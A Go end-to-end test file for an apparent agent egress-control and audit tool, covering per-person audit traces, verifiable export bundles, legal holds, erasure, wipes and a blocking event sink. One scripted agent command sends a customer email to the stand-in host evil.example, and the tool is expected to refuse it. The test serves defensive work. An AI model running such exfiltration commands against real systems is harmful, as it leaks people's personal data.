//go:build linux

package e2e

import (
	"encoding/json"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
)

// TestWhatDidItDoWithMyData: the question that the log is there for, from the
// agent's calls to what remains after a wipe.
func TestWhatDidItDoWithMyData(t *testing.T) {
	both(t, func(t *testing.T, h *home) {
		u := newUpstream(t, http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
			_, _ = io.Copy(io.Discard, r.Body)
			rw.Header().Set("Content-Type", "application/json")
			if r.URL.Path == "/customers/43" {
				_, _ = io.WriteString(rw, `{"customer":{"email":"bob@shop.example"}}`)
				return
			}
			_, _ = io.WriteString(rw, `{"customer":{"email":"alice@shop.example","name":"=HYPERLINK(\"x\")"}}`)
		}), "shop.example")
		h.deploy(manifest("support", u.rule("shop.example")))
		for _, line := range []string{
			"curl -sS " + u.url("shop.example", "/customers/42"),
			"curl -sS -d 'to=alice%40shop.example&text=hello' " + u.url("shop.example", "/mails"),
			"curl -sS -X DELETE '" + u.url("shop.example", "/notes?of=alice@shop.example") + "'",
			"curl -sS " + u.url("shop.example", "/customers/43"),
			"curl -sS 'http://evil.example/?mail=alice@shop.example'",
		} {
			h.sh("support", line)
		}
		h.run("exec", "support", "--intent", "look after carol@shop.example", "--", "true")
		if who := h.run("audit", "trace", "--subject", "carol@shop.example"); !strings.Contains(who, "ambit audit prove support") {
			t.Errorf("a command that a person ran is not found:\n%s", who)
		}
		report := h.run("audit", "trace", "--subject", "Alice@Shop.example")
		for _, want := range []string{
			"support read from shop.example", "support wrote to shop.example", "support deleted at shop.example", "support was refused at evil.example", "nothing left",
		} {
			if !strings.Contains(report, want) {
				t.Errorf("the report lacks %q:\n%s", want, report)
			}
		}
		h.refused("audit", "trace") // whose data?
		h.refused("audit", "trace", "--subject", "nobody in particular")
		h.refused("audit", "prove", "support", "100000")
		h.refused("audit", "search", "nobody")
		if out := h.run("audit", "search", "--control", "--kind", "audit.read"); !strings.Contains(out, "trace") || strings.Contains(out, "alice") {
			t.Errorf("who looked is not in the log of the control plane, or whom it was about is:\n%s", out)
		}

		// Others can check it: all of it, and one event alone.
		out := filepath.Join(h.dir, "..", "mine") // of serve's user, who runs the commands
		h.inHome(out, 0o700)
		bundle, key := filepath.Join(out, "support.tar"), strings.TrimSpace(h.run("audit", "key", "support"))
		h.run("audit", "export", "support", "--out", bundle, "--format", "csv", "--format", "ocsf")
		if said := h.run("audit", "verify", "--bundle", bundle, "--key", key); !strings.Contains(said, "is whole") || !strings.Contains(said, "0 erased") {
			t.Errorf("the bundle: %s", said)
		}
		if proof := h.run("audit", "prove", "support", "0"); !strings.HasPrefix(proof, "c2sp.org/tlog-proof@v1\n") {
			t.Errorf("the proof: %s", proof)
		}

		// A hold keeps everything, and a wipe away; released, what Alice asks for
		// is erased, and nothing of Bob's.
		h.run("audit", "hold", "support", "--why", "case 17")
		if said := h.refused("audit", "erase", "support", "--subject", "alice@shop.example", "--yes"); !strings.Contains(said, "legal hold") {
			t.Errorf("erasing under a hold: %s", said)
		}
		if said := h.refused("wipe", "support", "--yes"); !strings.Contains(said, "legal hold") {
			t.Errorf("wiping under a hold: %s", said)
		}
		h.run("audit", "hold", "support", "--release", "--why", "closed")
		h.refused("audit", "erase", "support", "--subject", "alice@shop.example") // without --yes
		if said := h.run("audit", "erase", "support", "--subject", "alice@shop.example", "--yes"); !strings.Contains(said, "bodies") {
			t.Errorf("the receipt: %s", said)
		}
		if left := h.run("audit", "trace", "--subject", "alice@shop.example"); strings.Contains(left, "shop.example/") || !strings.Contains(left, "erased and can no longer be looked into") {
			t.Errorf("after erasing:\n%s", left)
		}
		if left := h.run("audit", "trace", "--subject", "bob@shop.example"); !strings.Contains(left, "/customers/43") {
			t.Errorf("what is Bob's is gone too:\n%s", left)
		}
		if said := h.run("audit", "verify", "support"); !strings.Contains(said, "is whole") || !strings.Contains(said, `rule "subject"`) {
			t.Errorf("verify: %s", said)
		}

		// A wipe leaves the proof that so much happened and is gone.
		var wiped struct{ Bundle, Key, Missing string }
		if err := json.Unmarshal([]byte(h.run("wipe", "support", "--yes", "--json")), &wiped); err != nil || wiped.Missing != "" {
			t.Fatalf("wipe: %+v, %v", wiped, err)
		}
		if wiped.Key != key {
			t.Errorf("the key of what remains is %s, not %s", wiped.Key, key)
		}
		if said := h.run("audit", "verify", "--bundle", wiped.Bundle, "--key", key); !strings.Contains(said, "is whole") || !strings.Contains(said, `rule "wipe"`) {
			t.Errorf("what remains: %s", said)
		}
		if b, err := os.ReadFile(wiped.Bundle); err != nil || strings.Contains(string(b), "shop.example") {
			t.Errorf("what remains says what was done: %v", err)
		}
	})
}

// TestL2ABlockingSink (row L2): while a sink that must have every event cannot be
// written, the agent is held back after a thousand events, with a reason; when it
// can again, every event is there, once and in order, and the agent goes on.
func TestL2ABlockingSink(t *testing.T) {
	h := newHome(t)
	u := newUpstream(t, http.HandlerFunc(func(rw http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(rw, "hello") }), "a.example")
	h.stop()
	folder := filepath.Join(h.dir, "sink")
	h.inHome(folder, 0o700)
	if err := os.WriteFile(filepath.Join(h.dir, "outputs.yaml"), []byte("ambit: v1\nsinks:\n  - {name: disk, kind: file, path: "+folder+"/events.jsonl, when-down: block}\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	h.serve()
	h.deploy(manifest("a", u.rule("a.example")))
	if r := h.sh("a", "curl -sS "+u.url("a.example", "/")); r.stdout != "hello" {
		t.Fatalf("before: %+v", r)
	}
	sink := filepath.Join(folder, "events.jsonl")
	h.await(func() bool {
		b, err := os.ReadFile(sink)
		return err == nil && strings.Contains(string(b), "egress.outcome")
	}, 30*time.Second, "the first events to be delivered")

	// The sink's file cannot be opened any more.
	h.stop()
	if err := os.Rename(sink, sink+".kept"); err != nil {
		t.Fatal(err)
	}
	h.inHome(sink, 0o700) // a folder in its place
	h.serve()
	h.awaitRunning("a")
	ask := "for i in $(seq 700); do echo url=" + u.url("a.example", "/") + "; done | curl -sS -K - | tail -c 300"
	if r := h.sh("a", ask); !strings.Contains(r.stdout, "a sink that must have every event is behind") {
		t.Errorf("the agent was not held back: %+v", r)
	}
	if out := h.run("audit", "sinks"); !strings.Contains(out, "failing") || !strings.Contains(out, "block") {
		t.Errorf("sinks: %s", out)
	}
	h.stop()
	if err := os.Remove(sink); err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(sink+".kept", sink); err != nil {
		t.Fatal(err)
	}
	h.serve()
	h.awaitRunning("a")
	h.await(func() bool { return h.sh("a", "curl -sS "+u.url("a.example", "/")).stdout == "hello" }, 60*time.Second, "the agent to go on")
	h.await(func() bool { return strings.Contains(h.run("audit", "sinks"), "idle") }, 30*time.Second, "the sink to catch up")
	b, err := os.ReadFile(sink)
	if err != nil {
		t.Fatal(err)
	}
	var seqs []int
	for _, m := range regexp.MustCompile(`(?m)^\{"v":1,"seq":([0-9]+),[^\n]*"agent":"a"[^\n]*"kind"|^\{"v":1,"seq":([0-9]+),"time":"[^"]*","kind":"(?:egress|worker)[^\n]*$`).FindAllStringSubmatch(string(b), -1) {
		n, err := strconv.Atoi(m[1] + m[2])
		if err != nil {
			t.Fatal(err)
		}
		seqs = append(seqs, n)
	}
	if len(seqs) < 1000 || !slices.IsSorted(seqs) {
		t.Errorf("%d events of the agent are there, in order: %v", len(seqs), slices.IsSorted(seqs))
	}
}

// inHome makes a folder of serve's user.
func (h *home) inHome(path string, mode os.FileMode) {
	h.t.Helper()
	err := os.Mkdir(path, mode)
	if err == nil && os.Geteuid() == 0 {
		err = os.Chown(path, h.uid, h.uid)
	}
	if err != nil {
		h.t.Fatal(err)
	}
}
